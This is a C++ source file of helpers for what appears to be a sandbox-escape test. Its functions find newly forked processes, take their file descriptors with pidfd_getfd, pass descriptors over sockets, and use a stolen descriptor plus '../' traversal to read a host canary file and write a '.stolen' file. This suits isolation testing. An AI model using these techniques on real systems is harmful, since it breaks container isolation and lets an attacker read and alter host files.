#include "thief.hpp"

#include <algorithm>
#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>

#include <dirent.h>
#include <fcntl.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

namespace thief {
namespace {

std::string g_canary;

/// Fields of /proc/PID/stat after the name, which may have any byte in it.
std::vector<std::string> stat_fields(const std::string& stat) {
    std::vector<std::string> fields;
    const auto close = stat.rfind(')');
    if (close == std::string::npos) return fields;
    std::string field;
    for (auto at = close + 2; at < stat.size(); ++at) {
        if (stat[at] != ' ' && stat[at] != '\n') {
            field += stat[at];
            continue;
        }
        fields.push_back(field);
        field.clear();
    }
    return fields;
}

}  // namespace

void say(const std::string& line) {
    const auto text = line + "\n";
    (void)!write(STDOUT_FILENO, text.data(), text.size());
}

double now() {
    timespec time{};
    clock_gettime(CLOCK_MONOTONIC, &time);
    return static_cast<double>(time.tv_sec) + static_cast<double>(time.tv_nsec) / 1e9;
}

void wait_a_moment(int milliseconds) {
    poll(nullptr, 0, milliseconds);
}

std::string slurp(const std::string& path) {
    std::string text;
    const int fd = ::open(path.c_str(), O_RDONLY | O_CLOEXEC | O_NOCTTY | O_NONBLOCK);
    if (fd < 0) return text;
    char buffer[4096];
    for (ssize_t got = 0; (got = read(fd, buffer, sizeof buffer)) > 0;)
        text.append(buffer, static_cast<std::size_t>(got));
    close(fd);
    return text;
}

std::vector<std::string> list(const std::string& path) {
    std::vector<std::string> names;
    DIR* folder = opendir(path.c_str());
    if (folder == nullptr) return names;
    while (const dirent* entry = readdir(folder))
        if (entry->d_name[0] != '.') names.emplace_back(entry->d_name);
    closedir(folder);
    return names;
}

std::string errno_name() {
    const char* name = strerrorname_np(errno);
    return name != nullptr ? name : std::to_string(errno);
}

std::string describe(int fd) {
    struct stat status {};
    if (fstat(fd, &status) != 0) return "nothing";
    std::string kind = S_ISSOCK(status.st_mode)   ? "socket"
                       : S_ISFIFO(status.st_mode) ? "fifo"
                       : S_ISDIR(status.st_mode)  ? "folder"
                       : S_ISREG(status.st_mode)  ? "file"
                       : S_ISCHR(status.st_mode)  ? "device"
                                                  : "other";
    char link[256] = {};
    const auto path = "/proc/self/fd/" + std::to_string(fd);
    if (readlink(path.c_str(), link, sizeof link - 1) > 0) kind += std::string{" "} + link;
    return kind;
}

void set_canary(const std::string& path) {
    g_canary = path;
}

void loot_folder(int fd, const std::string& how) {
    if (g_canary.empty()) return;
    std::string up;
    for (int level = 0; level < 40; ++level)
        up += "../";
    const auto path = up + g_canary.substr(1);
    char text[64] = {};
    const int file = openat(fd, path.c_str(), O_RDONLY | O_CLOEXEC);
    if (file >= 0 && read(file, text, sizeof text - 1) > 0)
        say("WON read the host's file through " + how + ": " + text);
    if (file >= 0) close(file);
    const int stolen = openat(fd, (path + ".stolen").c_str(), O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
    if (stolen >= 0 && write(stolen, "thief\n", 6) == 6)
        say("WON wrote a file of the host through " + how);
    if (stolen >= 0) close(stolen);
}

bool is_newborn(pid_t pid, Newborn& found) {
    constexpr unsigned long kForkedWithoutExec = 0x40;
    constexpr std::size_t kParent = 1, kFlags = 6, kStartTime = 19;
    const auto text = slurp("/proc/" + std::to_string(pid) + "/stat");
    const auto fields = stat_fields(text);
    if (fields.size() <= kStartTime || fields[kParent] != "0" || pid == getpid()) return false;
    if ((std::strtoul(fields[kFlags].c_str(), nullptr, 10) & kForkedWithoutExec) == 0) return false;
    const auto open = text.find('(');
    found = {pid, std::to_string(pid) + " " + fields[kStartTime],
             text.substr(open, text.rfind(')') + 1 - open)};
    return true;
}

int open_process(pid_t pid) {
    return static_cast<int>(syscall(SYS_pidfd_open, pid, 0));
}

int steal(int pidfd, int fd) {
    return static_cast<int>(syscall(SYS_pidfd_getfd, pidfd, fd, 0));
}

bool send_packet(int socket, const std::string& bytes, const std::vector<int>& fds) {
    iovec piece{const_cast<char*>(bytes.data()), bytes.size()};
    msghdr message{};
    message.msg_iov = &piece;
    message.msg_iovlen = 1;
    std::vector<char> control(CMSG_SPACE(sizeof(int) * fds.size()));
    if (!fds.empty()) {
        message.msg_control = control.data();
        message.msg_controllen = control.size();
        cmsghdr* header = CMSG_FIRSTHDR(&message);
        header->cmsg_level = SOL_SOCKET;
        header->cmsg_type = SCM_RIGHTS;
        header->cmsg_len = CMSG_LEN(sizeof(int) * fds.size());
        std::memcpy(CMSG_DATA(header), fds.data(), sizeof(int) * fds.size());
    }
    return sendmsg(socket, &message, MSG_DONTWAIT | MSG_NOSIGNAL) >= 0;
}

ssize_t receive_packet(int socket, std::string& bytes, std::vector<int>& fds) {
    std::vector<char> data(1U << 20U);
    constexpr std::size_t kMost = 253;  // SCM_MAX_FD
    std::vector<char> control(CMSG_SPACE(sizeof(int) * kMost));
    iovec piece{data.data(), data.size()};
    msghdr message{};
    message.msg_iov = &piece;
    message.msg_iovlen = 1;
    message.msg_control = control.data();
    message.msg_controllen = control.size();
    const ssize_t got = recvmsg(socket, &message, MSG_DONTWAIT | MSG_CMSG_CLOEXEC);
    if (got < 0) return got;
    bytes.assign(data.data(), static_cast<std::size_t>(got));
    for (cmsghdr* header = CMSG_FIRSTHDR(&message); header != nullptr;
         header = CMSG_NXTHDR(&message, header)) {
        if (header->cmsg_level != SOL_SOCKET || header->cmsg_type != SCM_RIGHTS) continue;
        const std::size_t count = (header->cmsg_len - CMSG_LEN(0)) / sizeof(int);
        std::vector<int> some(count);
        std::memcpy(some.data(), CMSG_DATA(header), count * sizeof(int));
        fds.insert(fds.end(), some.begin(), some.end());
    }
    return got;
}

}  // namespace thief
